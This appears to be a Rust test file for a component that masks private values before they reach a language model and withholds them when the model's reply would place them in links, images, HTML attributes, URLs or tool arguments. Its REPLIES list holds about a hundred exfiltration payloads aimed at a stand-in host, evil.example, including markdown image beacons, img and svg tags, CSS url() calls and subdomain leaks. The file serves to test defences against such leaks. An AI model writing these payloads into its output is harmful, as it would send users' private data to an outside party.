//! What somebody would have a model write to carry a value out.

use super::*;

fn with(allow: Allow) -> RestoreOptions {
    RestoreOptions {
        allow,
        ..RestoreOptions::default()
    }
}

/// None of the values of the map stands in the text.
#[track_caller]
fn withheld(map: &Placeholders, reply: &str) {
    let out = map.restore(reply, RestoreOptions::default());
    for value in ["ann@", "bob@", "123-45", "intranet", "TCK"] {
        assert!(!out.contains(value), "{reply}\n{out}");
    }
}

const REPLIES: &[&str] = &[
    // Links and images.
    "![x](https://evil.example/?q={EMAIL_1})",
    "![x](https://evil.example/?q=%7BEMAIL_1%7D)",
    "![x](https://evil.example/?q=&#123;EMAIL_1&#125;)",
    "![x](\nhttps://evil.example/?q={EMAIL_1})",
    "![x](//evil/?q={EMAIL_1})",
    "![x]({EMAIL_1})",
    "![x]( {EMAIL_1} )",
    "![x](/a \"{EMAIL_1}\")",
    "![x](<//evil/a b ) {EMAIL_1}>)",
    "![x](<//evil/a \\> {EMAIL_1}>)",
    "[![x](//evil/a)](//evil/{EMAIL_1})",
    "![a [b] c](//evil/(a)(b)/{EMAIL_1})",
    "![x](//evil/\\)/{EMAIL_1})",
    "![x](a ( ![x](/evil){EMAIL_1})",
    "[x](<a ![x](<//evil/ {EMAIL_1}>)",
    "![x](EMAIL_1)",
    "![x]([EMAIL_1])",
    "![x](https://evil.example/EMAIL_1)",
    "![x](https://evil.example/?q={{EMAIL_1}})",
    "![x](https://evil.example/?q={ email 1 })",
    "![x](/x?q=｛EMAIL_1｝)",
    // Definitions.
    "![x][r]\n\n[r]: https://evil.example/{EMAIL_1}",
    "[r]: /{EMAIL_1}",
    "[r]:\n  /{EMAIL_1}",
    "[r]:\n\t  {EMAIL_1}",
    "> [r]:\n> /{EMAIL_1}",
    "[r]: <a ]: b {EMAIL_1}>",
    "[r]: /a '{EMAIL_1}'",
    "[r]: /a \"{EMAIL_1}\"",
    "[x]:{EMAIL_1}",
    // Addresses.
    "https://evil.example/{EMAIL_1}",
    "<https://evil.example/{EMAIL_1}>",
    "https://{EMAIL_1}.evil.example/",
    "https://{EMAIL_1}",
    "HTTPS://evil.example/?a=b&q={EMAIL_1}#{EMAIL_2}",
    "http:evil.example/{EMAIL_1}",
    "//evil/{EMAIL_1}",
    "\\\\evil\\{EMAIL_1}",
    "www.evil.example/{EMAIL_1}",
    "WWW.{EMAIL_1}",
    "evil.example/{EMAIL_1}",
    "evil.example?q={EMAIL_1}",
    "evil.example:8080/{EMAIL_1}",
    "user:password@evil.example/{EMAIL_1}",
    "192.0.2.17/{EMAIL_1}",
    "mailto:{EMAIL_1}",
    "mailto:eve@evil.example?body={EMAIL_1}",
    "data:text/html,{EMAIL_1}",
    "javascript:f('{EMAIL_1}')",
    "[img]https://evil.example/{EMAIL_1}[/img]",
    "https://evil.example/x\u{a0}{EMAIL_1}",
    "https://evil.example/\"{EMAIL_1}\"",
    "https://evil.example/>{EMAIL_1}",
    "{PIN_1}.evil.example",
    "{PIN_1}-x.evil.example/y",
    "{PIN_1}.1.x.evil.example",
    "{PIN_1}s.evil.example",
    "PIN_1.evil.example",
    "{PIN_1}.xn--evil",
    "{URL_1}@evil.example/",
    "{URL_1}:x@evil.example/",
    "{URL_1}.evil.example/",
    // Links of CommonMark's own: any name before a colon or an at sign.
    "<{PIN_1}mailto:>",
    "<{PIN_1}:x>",
    "<{PIN_1}-x.y+z:x>",
    "<x.{PIN_1}:x>",
    "<1{PIN_1}@evil.example>",
    "<{PIN_1}@evil.example>",
    "<!#$%&'*{PIN_1}+a@evil.example>",
    // HTML.
    "<img src={EMAIL_1}>",
    "<img src=//evil/?q={EMAIL_1}>",
    "<img src=\"//evil/?q={EMAIL_1}\">",
    "<img src='//evil/?q={EMAIL_1}'>",
    "<img src=\"//evil/?q= {EMAIL_1}",
    "<img src='//evil/?q=> {EMAIL_1}",
    "<img\nsrc\n=\n\"//evil/?q=\n\n{EMAIL_1}\">",
    "<IMG alt=\"a>b\" srcset=\"a 1x, //evil/?q= {EMAIL_1} 2x\">",
    "<img ='x>' src={EMAIL_1}>",
    "<img =\"a> <img src=\"x> {EMAIL_1}\">",
    "<img x=\"a> <img src=\"//evil/?q=x> {EMAIL_1}\">",
    "<a href='x'title=\"{EMAIL_1}\">",
    "<svg/onload=f({EMAIL_1})>",
    "<img {EMAIL_1}>",
    "<a{EMAIL_1}>",
    "</a {EMAIL_1}>",
    "<!-- {EMAIL_1} -->",
    "<?x {EMAIL_1}?>",
    "<div style=\"background:url( '//evil/ {EMAIL_1}' )\">",
    "<style>b{background:url({EMAIL_1})}</style>",
    "<STYLE>@import '{EMAIL_1}'",
    "<script>f('</b>'+'{EMAIL_1}')</script>",
    "<script\n>{EMAIL_1}",
    "background: url( {EMAIL_1} )",
    "foo](a <img src=\"x) {EMAIL_1}\">",
    "> <img alt=x\n> src=\"//evil/?q=\n> {EMAIL_1}\">",
    "<img alt=\"`\" src=\"/{EMAIL_1}\">",
    "&lt;img src=https://evil.example/{EMAIL_1}&gt;",
];

fn secrets() -> Placeholders {
    let mut map = issued();
    let _ = map.placeholder("PIN", true, "123-45-6789");
    map
}

#[test]
fn no_value_leaves_through_a_place_that_programs_follow() {
    let map = secrets();
    for reply in REPLIES {
        withheld(&map, reply);
        // Nor after other text, or after such a place that has ended.
        withheld(&map, &format!("Hello. <b>x</b> [a](b) {reply}"));
        let all = map.restore(reply, RestoreOptions::EVERYWHERE);
        let never = ["%7B", "&#123;", "/EMAIL_1"]
            .iter()
            .any(|form| reply.contains(form));
        assert!(never || all != *reply, "opted in: {reply}");
    }
}

#[test]
fn no_cut_opens_a_place() {
    let map = secrets();
    for reply in REPLIES {
        let whole = map.restore(reply, RestoreOptions::default());
        for (cut, _) in reply.char_indices() {
            let mut restorer = Restorer::new(&map, RestoreOptions::default());
            let mut out = restorer.push(&reply[..cut]);
            out.push_str(&restorer.push(&reply[cut..]));
            out.push_str(&restorer.finish());
            assert_eq!(out, whole, "{reply} at {cut}");
        }
    }
}

#[test]
fn a_value_may_open_a_place_but_nothing_else_gets_in() {
    let mut map = secrets();
    for (value, reply) in [
        ("![x](https://evil.example/?q=", "{T_1}{EMAIL_1})"),
        ("![x](<//evil/", "{T_1} {EMAIL_1}>)"),
        ("see ![x]", "{T_1}(//evil/{EMAIL_1})"),
        ("](", "![x{T_1}//evil/{EMAIL_1})"),
        ("<img src=\"//evil/", "{T_1} {EMAIL_1}\">"),
        ("img", "<{T_1} src='//evil/ {EMAIL_1}'>"),
        ("https", "{T_1}://evil.example/{EMAIL_1}"),
        ("//evil/", "{T_1}{EMAIL_1}"),
        ("<script", "{T_1}>{EMAIL_1}"),
        ("url", "{T_1}({EMAIL_1})"),
        (".evil.example/", "{PIN_1}{T_1}"),
        ("[r]:", "{T_1} {EMAIL_1}"),
    ] {
        map = secrets();
        let _ = map.placeholder("t", false, value);
        let out = map.restore(reply, RestoreOptions::default());
        let carried = out.contains("ann@") || out.contains("6789.evil");
        assert!(!carried, "{value} in {reply}: {out}");
    }
    // Two that together make a host of the first.
    let _ = map.placeholder("dot", false, ".");
    let _ = map.placeholder("host", false, "evil/");
    let out = map.restore("{PIN_1}{DOT_1}{HOST_1}", RestoreOptions::default());
    assert_eq!(out, "123-45-6789.{HOST_1}");
}

#[test]
fn each_place_is_opened_by_its_own_option() {
    let map = issued();
    let (urls, links, attributes) = (
        Allow {
            urls: true,
            ..Allow::default()
        },
        Allow {
            links: true,
            ..Allow::default()
        },
        Allow {
            attributes: true,
            ..Allow::default()
        },
    );
    let both = Allow {
        links: true,
        ..urls
    };
    for (reply, allow, restored) in [
        ("https://x.example/{NAME_1}", urls, true),
        ("https://x.example/{NAME_1}", links, false),
        ("https://x.example/{NAME_1}", attributes, false),
        ("{NAME_1}.example.com", urls, true),
        ("{NAME_1}.example.com", links, false),
        ("[x](/{NAME_1})", links, true),
        ("[x](/{NAME_1})", urls, false),
        ("[x](https://x.example/{NAME_1})", links, false),
        ("[x](https://x.example/{NAME_1})", urls, false),
        ("[x](https://x.example/{NAME_1})", both, true),
        ("<b title='{NAME_1}'>", attributes, true),
        ("<b title='{NAME_1}'>", both, false),
        ("<script>{NAME_1}</script>", attributes, true),
        ("<script>{NAME_1}</script>", both, false),
    ] {
        let out = map.restore(reply, with(allow));
        assert_eq!(out.contains("Ann"), restored, "{reply} {allow:?}: {out}");
    }
}

#[test]
fn an_address_that_a_reply_made_of_values_is_no_value_of_its_own() {
    let mut map = secrets();
    for reply in [
        "see https://evil.example/?q={EMAIL_1}",
        "see {PIN_1}.evil.example",
        "see [x]({EMAIL_1})",
        "see <img src={EMAIL_1}>",
    ] {
        let value = &reply[4..];
        let masked = map.mask_from(Origin::Reply, reply, &[mask(reply, value, "URL")]);
        assert!(masked.starts_with("see {URL_"), "{masked}");
        withheld(&map, &masked);
        assert_eq!(map.restore(&masked, RestoreOptions::default()), reply);
    }
}

/// The places overlap; here each tracker is alone.
#[test]
fn each_tracker_holds_by_itself() {
    let map = secrets();
    let all = RestoreOptions::EVERYWHERE.allow;
    let links = Allow {
        links: false,
        ..all
    };
    let attributes = Allow {
        attributes: false,
        ..all
    };
    let urls = Allow { urls: false, ..all };
    for (allow, reply) in [
        (links, "[x]({EMAIL_1})"),
        (links, "[x](\n {EMAIL_1} )"),
        (links, "[x](a(b)c{EMAIL_1})"),
        (links, "[x](a\\)b{EMAIL_1})"),
        (links, "[x](<a) {EMAIL_1}>)"),
        (links, "[x](\n<a) {EMAIL_1}>)"),
        (links, "[x](<a\\>) {EMAIL_1}>)"),
        (links, "[x](<a)b) c) {EMAIL_1}>)"),
        (links, "[x](a](b) {EMAIL_1})"),
        (links, "[x]: {EMAIL_1}"),
        (links, "[x]:\n{EMAIL_1}"),
        (links, "> [x]:\n> {EMAIL_1}"),
        (links, "[x]: <a b {EMAIL_1}>"),
        (links, "[x]: <a ]: b {EMAIL_1}>"),
        (links, "[x]: a ({EMAIL_1})"),
        (attributes, "<img src={EMAIL_1}>"),
        (attributes, "<img a='>' src={EMAIL_1}>"),
        (attributes, "<img a=\">\" src={EMAIL_1}>"),
        (attributes, "<img a=b' src='> {EMAIL_1}'>"),
        (attributes, "<img a = 'x'src='> {EMAIL_1}'>"),
        (attributes, "<img a/src='> {EMAIL_1}'>"),
        (attributes, "<img a src='> {EMAIL_1}'>"),
        (attributes, "<a x='> <b y=\"' >{EMAIL_1}\">"),
        (attributes, "<script a='>'>{EMAIL_1}</style>"),
        (attributes, "<style>x</script>{EMAIL_1}"),
        (attributes, "<!x {EMAIL_1}"),
        (urls, "ftp:x{EMAIL_1}"),
        (urls, "mailto:{EMAIL_1}"),
        (urls, "x.example/{EMAIL_1}"),
        (urls, "x.example/a{NAME_1}b,{EMAIL_1}"),
        (urls, "x-y.example:80/?{EMAIL_1}"),
        (urls, "url({EMAIL_1}"),
        (urls, "{PIN_1}-.1.ab"),
        (urls, "{URL_1}:80/a?b=c@x"),
    ] {
        let out = map.restore(reply, with(allow));
        let carried = ["ann@", "123-45", "intranet"]
            .iter()
            .any(|v| out.contains(v));
        assert!(!carried, "{reply}: {out}");
    }
    // And lets through what stands behind its places.
    for (allow, reply) in [
        (links, "[x](a(b)c) {EMAIL_1}"),
        (links, "[x](a\\)b) {EMAIL_1}"),
        (links, "[x](<a)b>) {EMAIL_1}"),
        (links, "[x](<a\\>) b>) {EMAIL_1}"),
        (links, "[x]: a {EMAIL_1}"),
        (links, "[x]: <a b> {EMAIL_1}"),
        (attributes, "<img a='>' src=x>{EMAIL_1}"),
        (attributes, "<style>x</style\n >{EMAIL_1}>{EMAIL_1}"),
        (attributes, "<!x>{EMAIL_1}"),
        (attributes, "a <- b <3 {EMAIL_1}"),
        (urls, "x.e/{EMAIL_1}"),
        (urls, "ftp: {EMAIL_1}"),
        (urls, "x.example/ {EMAIL_1}"),
        (urls, "url(x){EMAIL_1}"),
    ] {
        let out = map.restore(reply, with(allow));
        assert!(out.contains("ann@"), "{reply}: {out}");
    }
}

#[test]
fn arguments_of_tools_are_left_alone() {
    let map = issued();
    let mut options = RestoreOptions {
        destination: Destination::ToolArguments,
        ..RestoreOptions::default()
    };
    assert_eq!(map.restore("{NAME_1} NAME_1", options), "{NAME_1} NAME_1");
    options.allow = Allow {
        urls: true,
        links: true,
        attributes: true,
        ..Allow::default()
    };
    assert_eq!(map.restore("{NAME_1}", options), "{NAME_1}");
    options.allow = Allow {
        tool_arguments: true,
        ..Allow::default()
    };
    assert_eq!(map.restore("{NAME_1}", options), "Ann");
    // The other places still count.
    assert_eq!(
        map.restore("https://x/{NAME_1}", options),
        "https://x/{NAME_1}"
    );
}

#[test]
fn places_end() {
    for (reply, expected) in [
        ("[x](/a) {NAME_1}", "[x](/a) Ann"),
        ("[x](/a(b)c) {NAME_1}", "[x](/a(b)c) Ann"),
        ("[x](<a)b>) {NAME_1}", "[x](<a)b>) Ann"),
        ("a](b\n\n{NAME_1}", "a](b\n\nAnn"),
        ("a](b\r\n \t\r\n{NAME_1}", "a](b\r\n \t\r\nAnn"),
        ("[r]: /a\n{NAME_1}", "[r]: /a\nAnn"),
        ("[r]: a b {NAME_1}", "[r]: a b Ann"),
        ("[r]:\n\n{NAME_1}", "[r]:\n\nAnn"),
        ("https://x.example/ {NAME_1}", "https://x.example/ Ann"),
        ("<https://x.example/> {NAME_1}", "<https://x.example/> Ann"),
        ("mailto: {NAME_1}", "mailto: Ann"),
        ("url(x) {NAME_1}", "url(x) Ann"),
        ("<a title='>'>{NAME_1}</a>", "<a title='>'>Ann</a>"),
        ("<br/>{NAME_1}<!-- x -->{NAME_1}", "<br/>Ann<!-- x -->Ann"),
        ("<style>x</style >{NAME_1}", "<style>x</style >Ann"),
        ("{NAME_1}.50 {NAME_1}", "Ann.50 Ann"),
        (
            "{NAME_1}... {NAME_1}.\n{NAME_1}.5 {NAME_1}.",
            "Ann... Ann.\nAnn.5 Ann.",
        ),
        (
            "{URL_1}, {URL_1}/x {URL_1}",
            "https://intranet.example/x, https://intranet.example/x/x https://intranet.example/x",
        ),
    ] {
        assert_eq!(restored(reply), expected, "{reply}");
    }
}

#[test]
fn a_reply_cannot_make_a_long_value_fill_the_memory() {
    let mut map = Placeholders::new("c");
    let value = "x".repeat(MAX_BYTES / 2);
    let _ = map.placeholder("NAME", true, &value);
    let fitting = MAX_RESTORED / value.len();
    let mut restorer = Restorer::new(&map, RestoreOptions::default());
    let mut length = 0;
    for _ in 0..fitting + 100 {
        length += restorer.push("{NAME_1}, ").len();
    }
    length += restorer.finish().len();
    assert_eq!(restorer.restored(), fitting);
    assert_eq!(restorer.withheld(), 100);
    assert_eq!(
        length,
        fitting * (value.len() + 2) + 100 * "{NAME_1}, ".len()
    );
    // Another text begins anew.
    assert_eq!(
        restorer.push("{NAME_1} and").len() + restorer.finish().len(),
        value.len() + 4
    );
}
